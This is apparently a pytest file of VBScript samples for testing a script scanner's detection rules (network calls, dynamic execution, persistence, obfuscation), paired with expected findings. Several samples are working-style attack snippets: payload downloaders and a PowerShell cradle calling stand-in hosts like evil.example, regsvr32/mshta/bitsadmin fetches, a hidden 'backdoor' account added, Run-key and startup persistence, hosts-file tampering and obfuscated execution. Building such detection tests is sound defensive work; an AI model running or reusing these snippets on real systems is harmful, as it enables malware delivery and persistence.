r"""VBScript as administrators and attackers write it: cases written without having seen the analyzer.

Each row lists what has to be found, as ``LINE RULE`` or ``LINE-LINE RULE|RULE``; what may be found besides ends in a
question mark; anything else is a false alarm. The score of the first run is in docs/detection.md.
"""

from __future__ import annotations

import pytest
from scanning import scan_text

CASES = (
    pytest.param(
        'Set o = WScript.CreateObject("MSXML2.ServerXMLHTTP.6.0")\n'
        "o.setTimeouts 5000, 5000, 15000, 15000\n"
        'o.open "POST", "https://collector.example.net/upload.asp", False\n'
        'o.setRequestHeader "Content-Type", "application/x-www-form-urlencoded"\n'
        'o.send "host=" & strComputer',
        "3 NET001",
        id="an inventory posted to a collector",
    ),
    pytest.param(
        'Dim xHttp: Set xHttp = createobject("Microsoft.XMLHTTP")\n'
        'Dim bStrm: Set bStrm = createobject("Adodb.Stream")\n'
        'xHttp.Open "GET", "http://203.0.113.7/payload.exe", False\n'
        "xHttp.Send\n"
        "with bStrm\n"
        "    .type = 1\n"
        "    .open\n"
        "    .write xHttp.responseBody\n"
        '    .savetofile "c:\\temp\\a.exe", 2\n'
        "end with\n"
        'CreateObject("WScript.Shell").Run "c:\\temp\\a.exe", 0, True',
        "3 NET001, 11 PEX003",
        id="the classical downloader with a stream",
    ),
    pytest.param(
        'Set objWinHttp = CreateObject("WinHttp.WinHttpRequest.5.1")\n'
        'strUrl = "https://" & "cdn" & ".example" & ".org" & "/stage2.txt"\n'
        'Call objWinHttp.Open("GET", strUrl, False)\n'
        "objWinHttp.Send\n"
        "ExecuteGlobal objWinHttp.ResponseText",
        "3 NET001, 5 DEX001, 5 OBF001?",
        id="text from the network run as code",
    ),
    pytest.param(
        'Set IE = CreateObject("InternetExplorer.Application")\n'
        "IE.Visible = False\n"
        'IE.Navigate "http://intranet.example.mil/logon.asp?u=" & user\n'
        "Do While IE.Busy : WScript.Sleep 100 : Loop",
        "3 NET001",
        id="a hidden browser",
    ),
    pytest.param(
        'Set objMail = CreateObject("CDO.Message")\n'
        'Const cdo = "http://schemas.microsoft.com/cdo/configuration/"\n'
        'objMail.From = "server@example.org"\n'
        'objMail.To = "admin@example.org"\n'
        'objMail.Configuration.Fields.Item(cdo & "sendusing") = 2\n'
        'objMail.Configuration.Fields.Item(cdo & "smtpserver") = "smtp.example.org"\n'
        "objMail.Configuration.Fields.Update\n"
        "objMail.Send",
        "6-8 NET001",
        id="mail through a named server",
    ),
    pytest.param(
        'Set objNetwork = CreateObject("WScript.Network")\n'
        'objNetwork.MapNetworkDrive "H:", "\\\\fileserver\\home$", True',
        "2 NET001",
        id="a mapped drive",
    ),
    pytest.param(
        'strComputer = "."\n'
        'Set objWMIService = GetObject("winmgmts:\\\\" & strComputer & "\\root\\cimv2")\n'
        'Set colItems = objWMIService.ExecQuery("Select * from Win32_OperatingSystem")\n'
        "For Each objItem in colItems\n"
        "    Wscript.Echo objItem.Caption\n"
        "Next",
        "",
        id="a local inventory through WMI",
    ),
    pytest.param(
        'Set wmi = GetObject("winmgmts:{impersonationLevel=impersonate}!\\\\dc01.example.org\\root\\cimv2")\n'
        'wmi.Get("Win32_Process").Create "cmd.exe /c whoami > c:\\out.txt", Null, Null, pid',
        "2 PEX001, 1-2 NET001?",
        id="a process on another machine through WMI",
    ),
    pytest.param(
        'Set s = GetObject("winmgmts:root\\cimv2:Win32_Process")\n'
        'errReturn = s.Create("notepad.exe", null, null, intProcessID)',
        "2 PEX003",
        id="a local process through WMI",
    ),
    pytest.param(
        'Set WshShell = WScript.CreateObject("WScript.Shell")\n'
        'p = "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\Setup"\n'
        'WshShell.RegWrite p, "wscript.exe c:\\setup\\next.vbs", "REG_SZ"',
        "3 PER002",
        id="RunOnce through a variable",
    ),
    pytest.param(
        "Const HKEY_CURRENT_USER = &H80000001\n"
        'Set reg = GetObject("winmgmts:\\\\.\\root\\default:StdRegProv")\n'
        'k = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"\n'
        'reg.SetStringValue HKEY_CURRENT_USER, k, "Updater", "c:\\u.exe"',
        "4 PER002",
        id="a Run key through StdRegProv",
    ),
    pytest.param(
        "Const HKLM = &H80000002\n"
        'Set oReg = GetObject("winmgmts:\\\\.\\root\\default:StdRegProv")\n'
        'oReg.GetStringValue HKLM, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", "Updater", v\n'
        "WScript.Echo v",
        "",
        id="a Run key that is only read",
    ),
    pytest.param(
        'Set sh = CreateObject("WScript.Shell")\n'
        'sh.RegWrite "HKCU\\Software\\Contoso\\Editor\\FontSize", 11, "REG_DWORD"\n'
        'sh.RegDelete "HKCU\\Software\\Contoso\\Editor\\Old"',
        "",
        id="a program's own settings",
    ),
    pytest.param(
        'Set sh = CreateObject("WScript.Shell")\n'
        'startup = sh.SpecialFolders("Startup")\n'
        'Set lnk = sh.CreateShortcut(startup & "\\Agent.lnk")\n'
        'lnk.TargetPath = "C:\\agent\\agent.exe"\n'
        "lnk.Save",
        "3-5 PER002",
        id="a shortcut in the startup folder",
    ),
    pytest.param(
        'Set sh = CreateObject("WScript.Shell")\n'
        'Set lnk = sh.CreateShortcut(sh.SpecialFolders("Desktop") & "\\Wiki.lnk")\n'
        'lnk.TargetPath = "C:\\Tools\\wiki.exe"\n'
        "lnk.Save",
        "",
        id="a shortcut on the desktop",
    ),
    pytest.param(
        'Set fso = CreateObject("Scripting.FileSystemObject")\n'
        'Set sh = CreateObject("WScript.Shell")\n'
        'fso.CopyFile WScript.ScriptFullName, sh.SpecialFolders("Startup") & "\\svc.vbs", True',
        "3 PER002",
        id="a script that copies itself to startup",
    ),
    pytest.param(
        'Set fso = CreateObject("Scripting.FileSystemObject")\n'
        'Set f = fso.OpenTextFile("C:\\Windows\\System32\\drivers\\etc\\hosts", 8, True)\n'
        'f.WriteLine "10.1.2.3 update.example.org"\n'
        "f.Close",
        "2-3 PER003",
        id="a line appended to the hosts file",
    ),
    pytest.param(
        'Set fso = CreateObject("Scripting.FileSystemObject")\n'
        'Set f = fso.OpenTextFile("C:\\Windows\\System32\\drivers\\etc\\hosts", 1)\n'
        "WScript.Echo f.ReadAll",
        "",
        id="the hosts file read",
    ),
    pytest.param(
        'Set service = CreateObject("Schedule.Service")\n'
        "service.Connect\n"
        'Set root = service.GetFolder("\\")\n'
        "Set td = service.NewTask(0)\n"
        "Set act = td.Actions.Create(0)\n"
        'act.Path = "C:\\Windows\\System32\\notepad.exe"\n'
        'root.RegisterTaskDefinition "Test Logon", td, 6, , , 3',
        "7 PER001",
        id="a scheduled task through its service",
    ),
    pytest.param(
        'Set objWMIService = GetObject("winmgmts:\\\\.\\root\\cimv2")\n'
        'Set objJob = objWMIService.Get("Win32_ScheduledJob")\n'
        'e = objJob.Create("Monitor.exe", "********123000.000000-420", True, 1 OR 4, , , JobId)',
        "3 PER001",
        id="a scheduled job through WMI",
    ),
    pytest.param(
        'Set objWMIService = GetObject("winmgmts:\\\\.\\root\\cimv2")\n'
        'Set objService = objWMIService.Get("Win32_BaseService")\n'
        'r = objService.Create("DbService", "Personnel Database", "c:\\db\\db.exe", 16, 2, "Manual", False, '
        '"NT AUTHORITY\\LocalService", "")',
        "3 PER001",
        id="a service created through WMI",
    ),
    pytest.param(
        'Set sh = WScript.CreateObject("WScript.Shell")\n'
        'cmd = "schtasks /create /sc minute /mo 1 /tn ""updater"" /tr ""wscript %TEMP%\\u.vbs"""\n'
        "sh.Run cmd, 0, False",
        "3 PER001, 3 PEX001|PEX002|PEX003?",
        id="a task through a command in a variable",
    ),
    pytest.param(
        'Set sh = CreateObject("WScript.Shell")\n'
        'Set ex = sh.Exec("schtasks /query /fo csv")\n'
        "WScript.Echo ex.StdOut.ReadAll",
        "2 PEX003",
        id="tasks that are only listed",
    ),
    pytest.param(
        'Set sh = CreateObject("WScript.Shell")\n'
        'sh.Run "powershell -nop -w hidden -c ""IEX (New-Object Net.WebClient).DownloadString('
        '\'http://evil.example/a.ps1\')""", 0',
        "2 NET001, 2 DEX001, 2 PEX001|PEX002|PEX003|OBF001?",
        id="a cradle in PowerShell",
    ),
    pytest.param(
        'Set sh = CreateObject("WScript.Shell")\n'
        'sh.Run "%COMSPEC% /c ping -n 3 127.0.0.1 > nul & del " & WScript.ScriptFullName, 0, False',
        "2 PEX001",
        id="a script that deletes itself",
    ),
    pytest.param(
        'Set sh = CreateObject("WScript.Shell")\nsh.Run "ping -n 1 198.51.100.4", 0, True',
        "2 PEX002|PEX003, 2 NET001?",
        id="a ping to an address",
    ),
    pytest.param(
        'Set sa = CreateObject("Shell.Application")\n'
        'sa.ShellExecute "cmd.exe", "/c net user backdoor P@ss /add", "", "runas", 0',
        "2 PEX001",
        id="a shell with another user's rights",
    ),
    pytest.param(
        'Set sa = CreateObject("Shell.Application")\nsa.ShellExecute "notepad.exe", "readme.txt", "", "open", 1',
        "2 PEX003",
        id="an editor opened",
    ),
    pytest.param(
        's = "WScript.Echo ""hello"""\nExecute s',
        "2 DEX001",
        id="a constant run as code",
    ),
    pytest.param(
        'Function D(h)\n  Dim i, r\n  For i = 1 To Len(h) Step 2\n    r = r & Chr("&H" & Mid(h, i, 2))\n  Next\n'
        '  D = r\nEnd Function\nExecuteGlobal D("4d7367426f782022486922")',
        "8 DEX001, 8 OBF001",
        id="code in hexadecimal digits",
    ),
    pytest.param(
        'x = StrReverse("llehS.tpircSW")\nSet q = CreateObject(x)\nq.Run StrReverse("exe.clac")',
        "3 PEX003, 2 OBF001?, 3 OBF001?",
        id="names written backwards",
    ),
    pytest.param(
        "a = Array(87,83,99,114,105,112,116,46,83,104,101,108,108)\n"
        "For Each c In a\n  n = n & Chr(c)\nNext\n"
        'CreateObject(n).Run "cmd /c start calc"',
        "5 PEX001|PEX003, 5 OBF001?",
        id="a name built from numbers in a loop",
    ),
    pytest.param(
        'y = Eval(InputBox("Formula"))\nMsgBox y',
        "1 DEX001",
        id="a formula that the user enters",
    ),
    pytest.param(
        'Set xml = CreateObject("Msxml2.DOMDocument.3.0")\n'
        'Set el = xml.createElement("b64")\n'
        'el.dataType = "bin.base64"\n'
        "el.text = blob\n"
        'Set st = CreateObject("ADODB.Stream")\n'
        "st.Type = 1\nst.Open\nst.Write el.nodeTypedValue\n"
        'st.SaveToFile "C:\\Program Files\\Common Files\\x.dll", 2',
        "9 PER003",
        id="decoded bytes written to program files",
    ),
    pytest.param(
        'Set conn = CreateObject("ADODB.Connection")\n'
        'conn.Open "Provider=SQLOLEDB;Data Source=sql01.example.org;Initial Catalog=hr;Integrated Security=SSPI"',
        "2 NET001",
        id="a database on another machine",
    ),
    pytest.param(
        'Set http = CreateObject("MSXML2.XMLHTTP")\n'
        'http.Open "GET", "http://localhost:8080/status", False\n'
        "http.Send\n"
        'If http.Status = 200 Then WScript.Echo "up"',
        "",
        id="a health check on loopback",
    ),
    pytest.param(
        "Set args = WScript.Arguments\n"
        "url = args.Item(0)\n"
        'Set http = CreateObject("WinHttp.WinHttpRequest.5.1")\n'
        'http.Open "GET", url, False : http.Send',
        "4 NET002",
        id="an address from the command line",
    ),
    pytest.param(
        "Option Explicit\n"
        "' usage: cscript get.vbs http://www.example.com/file\n"
        'REM CreateObject("WScript.Shell").Run "calc"\n'
        'Dim fso, f: Set fso = CreateObject("Scripting.FileSystemObject")\n'
        'Set f = fso.CreateTextFile("report.txt", True)\n'
        'f.WriteLine "See https://www.example.com/help and run schtasks /create"\n'
        "f.Close",
        "",
        id="a report that mentions what it does not do",
    ),
    pytest.param(
        'Set dict = CreateObject("Scripting.Dictionary")\n'
        'dict.Add "Run", "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"\n'
        "For Each k In dict.Keys\n  WScript.Echo k & dict(k)\nNext\n"
        'Set re = New RegExp : re.Pattern = "eval\\(" : WScript.Echo re.Execute(dict("Run")).Count',
        "",
        id="a dictionary and a pattern with an Execute of its own",
    ),
    pytest.param(
        'GetObject("script:https://evil.example/payload.sct")',
        "1 NET001, 1 DEX001|DEX002?",
        id="a script component from the network",
    ),
    pytest.param(
        'Set sh = CreateObject("WScript.Shell")\n'
        'sh.Run "regsvr32 /s /n /u /i:http://evil.example/file.sct scrobj.dll", 0\n'
        'sh.Run "mshta http://evil.example/a.hta"\n'
        'sh.Run "bitsadmin /transfer j /download /priority high http://evil.example/a.exe c:\\temp\\a.exe"',
        "2 NET001, 3 NET001, 4 NET001, 2-4 PEX002|PEX003|DEX001|DEX002|DEX003?",
        id="living off the land",
    ),
    pytest.param(
        "Sub Fetch(u)\n"
        '  Dim h : Set h = CreateObject("MSXML2.XMLHTTP")\n'
        '  h.Open "GET", u, False\n'
        "  h.Send\n"
        "End Sub\n"
        'Fetch "http://198.51.100.9/list.txt"',
        "3-6 NET001",
        id="a helper called with an address",
    ),
)


def wrong(text: str, expected: str) -> list[str]:
    """What is missing in, or too much among, the findings of *text*."""
    found = sorted({(one.line, one.rule) for one in scan_text("case.vbs", text)})
    missing, covered = [], set()
    for item in filter(None, expected.split(", ")):
        lines, rules = item.split()
        first, _, last = lines.partition("-")
        wanted = {(n, rule) for n in range(int(first), int(last or first) + 1) for rule in rules.rstrip("?").split("|")}
        if not wanted.intersection(found) and not item.endswith("?"):
            missing.append(f"missing: {item}")
        covered |= wanted
    return missing + [f"too much: {line} {rule}" for line, rule in found if (line, rule) not in covered]


@pytest.mark.parametrize(("text", "expected"), CASES)
def test_scripts_written_blind(text: str, expected: str) -> None:
    assert not wrong(text, expected)
